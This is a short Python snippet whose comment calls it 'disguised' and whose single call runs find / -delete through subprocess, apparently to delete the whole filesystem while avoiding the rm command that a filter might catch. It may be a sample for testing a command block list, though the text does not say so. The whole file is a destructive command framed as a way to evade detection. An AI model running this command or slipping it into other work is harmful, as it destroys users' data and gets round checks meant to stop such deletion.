# Disguised: find deletes what rm would.
import subprocess

subprocess.run(["find", "/", "-delete"])
